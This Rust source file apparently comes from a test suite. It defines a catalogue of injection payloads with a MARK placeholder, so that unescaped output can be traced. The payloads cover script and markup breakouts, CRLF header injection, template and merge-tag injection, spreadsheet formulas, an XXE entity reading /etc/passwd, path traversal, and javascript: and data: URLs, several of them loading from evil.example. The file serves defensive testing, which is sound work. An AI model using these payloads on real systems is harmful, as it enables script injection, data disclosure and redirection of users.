//! What an attacker would write where a text or an address is expected.
//!
//! Each payload holds `MARK` where it would become structure: in the name of an element, in what a
//! script says, in a line of its own. [`Payload::text`] puts a mark there that says which payload
//! it is and which field it stood in, so that whatever turns up in the output can be distinguished.

use std::sync::LazyLock;

use regex::Regex;

macro_rules! payloads {
    ($($name:literal: $text:expr,)*) => { &[$(Payload { name: $name, text: $text },)*] };
}

/// A text that is meant to do harm.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Payload {
    pub(crate) name: &'static str,
    text: &'static str,
}

impl Payload {
    /// The payload with a mark in its place.
    pub(crate) fn text(&self, mark: &str) -> String {
        self.text.replace("MARK", mark)
    }
}

/// What a field is expected to hold.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Kind {
    /// Text of one line, which stays text.
    Text,
    /// Markdown or HTML, of which harmless elements stay.
    Rich,
    /// An address.
    Url,
    /// The name of a field.
    Name,
}

/// Where a piece of output comes from.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Mark {
    pub(crate) kind: Kind,
    pub(crate) payload: usize,
    pub(crate) field: usize,
}

impl Mark {
    /// The mark as a word that slugs, addresses and upper case leave recognisable.
    pub(crate) fn word(&self) -> String {
        let kind = match self.kind {
            Kind::Text => 't',
            Kind::Rich => 'r',
            Kind::Url => 'u',
            Kind::Name => 'n',
        };
        format!("zq{kind}{:03}f{:02}z", self.payload, self.field)
    }
}

static MARKS: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)zq([trun])(\d{3})f(\d{2})z").expect("a pattern"));

/// All marks in a text, with the places where they begin.
pub(crate) fn marks(text: &str) -> Vec<(usize, Mark)> {
    MARKS
        .captures_iter(text)
        .map(|found| {
            let kind = match &found[1].to_lowercase()[..] {
                "t" => Kind::Text,
                "r" => Kind::Rich,
                "u" => Kind::Url,
                _ => Kind::Name,
            };
            let number = |group: usize| found[group].parse().unwrap_or_default();
            let mark = Mark {
                kind,
                payload: number(2),
                field: number(3),
            };
            (found.get(0).map_or(0, |whole| whole.start()), mark)
        })
        .collect()
}

/// Whether a text holds a mark.
pub(crate) fn has_mark(text: &str) -> bool {
    MARKS.is_match(text)
}

/// Texts for every field that is shown as text, and for bodies.
pub(crate) const TEXTS: &[Payload] = payloads! {
    // Markup.
    "element": "<MARK>x</MARK>",
    "bold": "<b>MARK</b>",
    "script": "<script>ran('MARK')</script>",
    "end of a script": "</script><script>ran('MARK')</script>",
    "end of a script in other letters":
        "</ScRiPt ><script src=https://evil.example/MARK.js></script>",
    "comment in a script": "<!--<script>ran('MARK')",
    "end of a comment": "--><script>ran('MARK')</script><!--",
    "other end of a comment": "--!><img src=x onerror=ran('MARK')>",
    "end of a title": "</title><script>ran('MARK')</script>",
    "end of raw text": "</textarea></style></noscript></xmp><script>ran('MARK')</script>",
    "end of the page": "</p></div></main></body></html><script>ran('MARK')</script>",
    "picture": "<img src=x onerror=ran('MARK')>",
    "drawing": "<svg/onload=ran('MARK')>",
    "drawing with a script": "<svg><script>ran('MARK')</script></svg>",
    "frame": "<iframe src=\"https://evil.example/MARK\"></iframe>",
    "frame of text": "<iframe srcdoc=\"<script>parent.ran('MARK')</script>\"></iframe>",
    "refresh": "<meta http-equiv=refresh content=\"0;url=https://evil.example/MARK\">",
    "base": "<base href=\"https://evil.example/MARK/\">",
    "style sheet": "<link rel=stylesheet href=\"https://evil.example/MARK.css\">",
    "style": "<style>@import 'https://evil.example/MARK.css';</style>",
    "form": "<form action=\"https://evil.example/MARK\"><button formaction=\"javascript:ran('MARK')\
        \">x</button></form>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 \
        onerror=ran('MARK')&gt;\">",
    "mutation without script": "<noscript><p title=\"</noscript><img src=x onerror=ran('MARK')>\">",
    "details": "<details open ontoggle=ran('MARK')><summary>x</summary></details>",
    "link": "<a href=\"javascript:ran('MARK')\">MARK</a>",
    "object":
        "<object data=\"javascript:ran('MARK')\"></object><embed src=\"//evil.example/MARK\">",
    "template element": "<template><script>ran('MARK')</script></template>",
    "rest of the page as text": "<plaintext>MARK",
    // Attributes.
    "end of a tag": "\"><script>ran('MARK')</script>",
    "end of a tag, single": "'><script>ran('MARK')</script>",
    "handler": "\" onmouseover=\"ran('MARK')\" x=\"",
    "handler, single": "' onmouseover='ran(\"MARK\")' x='",
    "attribute": "\" MARK=\"1",
    "attribute, single": "' MARK='1",
    "attribute, bare": " MARK=1 x",
    "attribute, back quote": "` MARK=`1",
    "style attribute": "\" style=\"position:fixed;background:url(https://evil.example/MARK)",
    "focus": "\" autofocus onfocus=ran('MARK') tabindex=1 x=\"",
    // Entities, once and twice.
    "entities": "&lt;script&gt;ran('MARK')&lt;/script&gt;",
    "entities twice": "&amp;lt;script&amp;gt;ran('MARK')&amp;lt;/script&amp;gt;",
    "numbers": "&#60;img src=x onerror=ran(&#39;MARK&#39;)&#62;",
    "quotation marks as entities": "&quot; onmouseover=&quot;ran('MARK')",
    "bad entities": "&unknown; &#0; &#xD800; &#xFFFE; &#x110000; & MARK",
    // Characters.
    "controls": "a\u{7}\u{8}\u{1b}[31mMARK\u{85}\u{9f}\u{0}",
    "directions": "a\u{202e}MARK\u{2066}\u{2067}\u{202a}\u{200f}\u{61c}",
    "line separators": "a\u{2028}MARK\u{2029}ran('MARK')",
    "noncharacters": "a\u{fffe}\u{ffff}MARK\u{feff}\u{200b}\u{ad}\u{10ffff}",
    "combined characters": "MARK\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}a\u{301}\u{302}\u{303}",
    // Lines.
    "annotation": "x\r\n::error::MARK",
    "header": "x\r\nSet-Cookie: MARK=1",
    "end of headers": "x\r\n\r\n<script>ran('MARK')</script>",
    "line of _headers": "x\n  X-MARK: 1",
    "line of _redirects": "x\n/MARK https://evil.example/MARK 302",
    "line of robots.txt": "x\nDisallow: /MARK",
    // Templates and mailing services.
    "expression": "{{ MARK }}{{ 7 * 7 }}",
    "statement": "{% include \"MARK\" %}{% raw %}",
    "template comment": "{# MARK #}",
    "three braces": "{{{MARK}}}",
    "merge tag": "*|MARK|*",
    "merge tag in brackets": "[[MARK]]",
    "merge tag with percents": "%%MARK%%",
    "merge tag with a dollar": "${MARK}",
    "merge tag as a tag": "<%= MARK %>",
    "recipient": "%recipient.MARK%",
    // Spreadsheets.
    "formula": "=HYPERLINK(\"https://evil.example/MARK\",\"x\")",
    "formula, plus": "+MARK",
    "formula, minus": "-MARK",
    "formula, at": "@MARK",
    // Scripts and JSON.
    "backslash": "\\\"MARK",
    "field": "\"}],\"MARK\":\"1\",\"x\":[{\"",
    "escape": "\\u0022MARK",
    "end of a string": "';ran('MARK');//",
    "template string": "`${ran('MARK')}`",
    "prototype": "__proto__ MARK",
    // XML.
    "end of CDATA": "]]>MARK",
    "CDATA": "<![CDATA[MARK]]>",
    "processing instruction": "<?MARK x?>",
    "document type": "<!DOCTYPE MARK [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "empty element": "</title><MARK/>",
    "item": "</title></item><item><title>MARK",
    // Markdown.
    "Markdown link": "[MARK](javascript:ran('MARK'))",
    "Markdown picture": "![MARK](https://evil.example/MARK.png)",
    "Markdown heading": "x\n\n## MARK",
    "end of a Markdown link": "MARK](https://evil.example/MARK) [x",
    "Markdown autolink": "<https://evil.example/MARK>",
    "Markdown emphasis": "*MARK* __MARK__ `MARK`",
    // YAML.
    "YAML field": "x: MARK: 1",
    "YAML item": "- MARK",
    "YAML comment": "x # MARK",
    "YAML document": "x\n---\nMARK: 1\n...\n",
    "YAML alias": "*MARK &MARK !!MARK",
    // Hosts.
    "pattern of _redirects": "/* https://evil.example/MARK 302",
    "placeholder of _redirects": ":splat MARK",
    "nginx": "\"; return 200 MARK; #",
    "nginx variable": "$uri MARK",
    "Caddy": "\" }\nrespond \"MARK\" {",
    "Caddy placeholder": "{http.request.host} MARK",
    // Paths.
    "path": "../../../MARK",
    "path of Windows": "..\\..\\MARK",
    "encoded path": "%2e%2e%2fMARK",
    "another host": "//evil.example/MARK",
    "another host behind a path": "/.//evil.example/MARK",
    "hidden file": ".htaccess MARK",
    "device": "CON MARK",
    // Addresses.
    "address": "https://evil.example/MARK",
    "script address": "javascript:ran('MARK')",
    "data address": "data:text/html,<script>ran('MARK')</script>",
    // Length.
    "long word": concat!("MARK", include_str!("long.txt")),
};

/// Addresses that are none for the web, or other ones than they seem. No link and no picture leads
/// there.
pub(crate) const BAD_URLS: &[Payload] = payloads! {
    "script": "javascript:ran('MARK')",
    "script in other letters": "JaVaScRiPt:ran('MARK')",
    "script behind a space": " javascript:ran('MARK')",
    "script with a tab": "java\tscript:ran('MARK')",
    "script with a line end": "java\nscript:ran('MARK')",
    "script behind a control": "\u{1}javascript:ran('MARK')",
    "script with an entity": "javascript&colon;ran('MARK')",
    "script with a number": "&#106;avascript:ran('MARK')",
    "data": "data:text/html,<script>ran('MARK')</script>",
    "drawing": "data:image/svg+xml,<svg onload=ran('MARK')>",
    "Visual Basic": "vbscript:MARK",
    "file": "file:///etc/MARK",
    "blob": "blob:https://news.example/MARK",
    "source": "view-source:javascript:MARK",
    "name before the host": "https://news.example@evil.example/MARK",
    "no host": "http:///MARK",
    "backslash": "/\\evil.example/MARK",
};

/// Parts of old addresses, with all that such a part may have.
pub(crate) const ALIASES: &[Payload] = payloads! {
    "nginx": "x\"; return 200 MARK; \"",
    "nginx variable": "$uri MARK",
    "Caddy": "\" }; respond \"MARK\" {",
    "Caddy placeholder": "{http.request.host} MARK",
    "redirect": "x evil.example MARK 302",
    "element": "<MARK>'MARK'",
    "braces": "{{MARK}}{$uri}",
};

/// Addresses of the web with all that could break out of an attribute or a line; they are links.
pub(crate) const WEB_URLS: &[Payload] = payloads! {
    "quotation mark": "https://web.example/MARK\"><script>ran(1)</script>",
    "single quotation mark": "https://web.example/MARK' onmouseover='ran(1)",
    "space": "https://web.example/MARK x y",
    "line end": "https://web.example/MARK\r\nSet-Cookie: a=b",
    "angle brackets": "https://web.example/<MARK>",
    "entity": "https://web.example/?a=MARK&quot;&lt;&amp;b=\"",
    "brackets": "https://web.example/MARK)](x)[y](",
    "braces": "https://web.example/{{MARK}}{%x%}*|UNSUB|*",
    "backslash": "https://web.example\\MARK\\x",
    "no scheme": "//web.example/MARK",
    "fragment": "https://web.example/#\"><img src=x onerror=ran('MARK')>",
    "script inside": "https://web.example/?u=javascript:ran('MARK')",
    "direction": "https://web.example/\u{202e}MARK\u{2028}",
    "quotation mark in the query": "https://web.example/?MARK=']]>--><!--",
    "plain": "https://web.example/MARK",
};
